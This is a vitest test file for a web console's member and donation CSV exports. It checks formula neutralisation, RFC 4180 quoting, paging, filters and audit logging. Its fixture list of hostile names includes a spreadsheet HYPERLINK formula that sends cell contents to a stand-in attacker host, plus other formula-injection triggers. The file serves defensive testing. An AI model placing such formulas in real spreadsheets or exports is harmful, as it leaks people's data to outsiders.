// The console's CSV exports (functions/staff/exports.ts, csv.ts) against real D1: hostile names and notes round-trip
// exactly through csv-parse (an independent RFC 4180 parser) with formulas neutralised by a leading apostrophe, the
// stream pages through more rows than one query reads, the filters apply, and each export writes one audit row.
import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { exportDonations, exportMembers, MEMBER_COLUMNS, DONATION_COLUMNS } from "@functions/staff/exports";
import { parseMemberQuery } from "@functions/staff/member-list";
import { parseLedgerQuery } from "@functions/staff/donation-ledger";
import { csvCell } from "@functions/staff/csv";
import { EXPORT_PAGE_SIZE } from "@functions/staff/paging";
import { DAY } from "@functions/clock";
import { T0 } from "./support";
import { auditRows, seedDonation, seedMember, seedStaff } from "./console-support";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rReturn",
  'She said "hello", then left',
  "comma, separated",
  "line one\nline two\r\nline three",
  "Zoë Ångström — 日本語 🚲",
  "plain name",
];

/** What a spreadsheet should see for `value`: the text, behind an apostrophe if it would start a formula. */
const neutralised = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  // Decoded keeping the byte-order mark, which the export sends for spreadsheet programs.
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

const members: Array<{ id: string; name: string }> = [];

beforeAll(async () => {
  for (const [index, name] of HOSTILE.entries()) {
    const member = await seedMember({ name, createdAt: T0 - index * DAY, verifiedAt: index % 2 === 0 ? T0 : null });
    members.push({ id: member.id, name });
    await seedDonation({ createdAt: T0 - index * DAY, userId: member.id, note: name, amount: 100 + index });
  }
  // More than one export page, so the stream must follow the keyset.
  await env.DB.prepare(`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
    INSERT INTO users (id, email, password_hash, created_at) SELECT 'bulk' || i, 'bulk' || i || '@example.org', 'x', ?2 - 100 * 86400 - i FROM n`)
    .bind(EXPORT_PAGE_SIZE * 2 + 7, T0).run();
});

describe("CSV cells", () => {
  it("neutralise formulas and quote quotes, commas and line breaks", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("\rx")).toBe("\"'\rx\"");
    expect(csvCell(null)).toBe("");
    expect(csvCell(-5)).toBe("-5"); // numbers the site wrote are numbers, not formulas
  });
});

describe("the exports", () => {
  it("stream every member, hostile names round-tripping exactly with formulas neutralised, and audit the export once", async () => {
    const actor = await seedStaff("admin", T0 - 300 * DAY);
    const query = parseMemberQuery(new URLSearchParams());
    if (!query.ok) throw new Error(query.message);
    const csv = await text(await exportMembers(env.DB, actor, query.value, T0));
    expect(csv.startsWith("\uFEFFid,email,name,joined,verified,role\r\n")).toBe(true);
    const rows = parse(csv, { bom: true, columns: true, relax_column_count: false }) as Array<Record<(typeof MEMBER_COLUMNS)[number], string>>;
    expect(rows).toHaveLength(HOSTILE.length + EXPORT_PAGE_SIZE * 2 + 7 + 1);
    expect(new Set(rows.map((row) => row.id)).size).toBe(rows.length);
    for (const member of members) {
      const row = rows.find((candidate) => candidate.id === member.id)!;
      expect(row.name).toBe(neutralised(member.name));
    }
    expect(rows.find((row) => row.id === members[0]!.id)).toMatchObject({ joined: new Date(T0 * 1000).toISOString(), verified: new Date(T0 * 1000).toISOString(), role: "member" });
    expect(rows.find((row) => row.id === members[1]!.id)!.verified).toBe("");
    expect(await auditRows(actor.userId)).toEqual([{ action: "members.export", target_id: null, detail: '{"filter":"all","search":false}', actor_role: "admin" }]);
  });

  it("apply the page's filters, and stream the ledger with hostile notes intact", async () => {
    const actor = await seedStaff("owner", T0 - 300 * DAY);
    const verified = parseMemberQuery(new URLSearchParams({ filter: "verified" }));
    if (!verified.ok) throw new Error(verified.message);
    const memberRows = parse(await text(await exportMembers(env.DB, actor, verified.value, T0)), { bom: true, columns: true }) as Array<{ id: string }>;
    // The hostile members with an even index, and the (verified) staff the tests made; the bulk rows are unverified.
    const staff = (await env.DB.prepare("SELECT user_id FROM staff").all<{ user_id: string }>()).results.map((row) => row.user_id);
    expect(staff).toHaveLength(2);
    expect(memberRows.map((row) => row.id).sort()).toEqual([...members.filter((_, index) => index % 2 === 0).map((m) => m.id), ...staff].sort());

    const ledger = parseLedgerQuery(new URLSearchParams({ month: "2027-01" }));
    if (!ledger.ok) throw new Error(ledger.message);
    const donationRows = parse(await text(await exportDonations(env.DB, actor, ledger.value, T0)), { bom: true, columns: true }) as Array<Record<(typeof DONATION_COLUMNS)[number], string>>;
    // T0 is 15 January: the first fifteen days' donations fall in the month (every hostile one).
    expect(donationRows).toHaveLength(HOSTILE.length);
    for (const [index, name] of HOSTILE.entries()) {
      const row = donationRows.find((candidate) => candidate.member_id === members[index]!.id)!;
      expect(row).toMatchObject({ note: neutralised(name), amount_minor: String(100 + index), currency: "gbp", kind: "once", status: "paid" });
    }
    expect((await auditRows(actor.userId)).map((row) => [row.action, row.detail])).toEqual([
      ["members.export", '{"filter":"verified","search":false}'],
      ["donations.export", '{"month":"2027-01","kind":"all","status":"all"}'],
    ]);
  });

  it("write no audit row and start no stream when D1 fails", async () => {
    const actor = await seedStaff("admin", T0 - 300 * DAY);
    const query = parseMemberQuery(new URLSearchParams());
    if (!query.ok) throw new Error(query.message);
    const broken = new Proxy(env.DB, {
      get(target, property) {
        if (property === "batch") return async (statements: D1PreparedStatement[]) => target.batch([...statements, target.prepare("SELECT * FROM no_such_table")]);
        const value = Reflect.get(target, property);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    await expect(exportMembers(broken, actor, query.value, T0)).rejects.toThrow(/no_such_table/);
    expect(await auditRows(actor.userId)).toEqual([]);
  });
});

describe("an export with nothing to list", () => {
  it("ends after the header instead of hanging", async () => {
    const actor = await seedStaff("admin", T0 - 300 * DAY);
    const ledger = parseLedgerQuery(new URLSearchParams({ month: "2001-01" }));
    if (!ledger.ok) throw new Error(ledger.message);
    expect(await text(await exportDonations(env.DB, actor, ledger.value, T0))).toBe(`\uFEFF${DONATION_COLUMNS.join(",")}\r\n`);
  });
});

describe("the ledger export's member column", () => {
  it("gives the linked member's current address beside the one the donation was made with", async () => {
    const actor = await seedStaff("admin", T0 - 300 * DAY);
    const member = await seedMember({ createdAt: T0 - 400 * DAY, email: "now@example.org" });
    await seedDonation({ createdAt: T0 - 400 * DAY, userId: member.id, email: "then@example.org" });
    const ledger = parseLedgerQuery(new URLSearchParams({ month: new Date((T0 - 400 * DAY) * 1000).toISOString().slice(0, 7) }));
    if (!ledger.ok) throw new Error(ledger.message);
    const [row] = parse(await text(await exportDonations(env.DB, actor, ledger.value, T0)), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({ email: "then@example.org", member_id: member.id, member_email: "now@example.org" });
  });
});
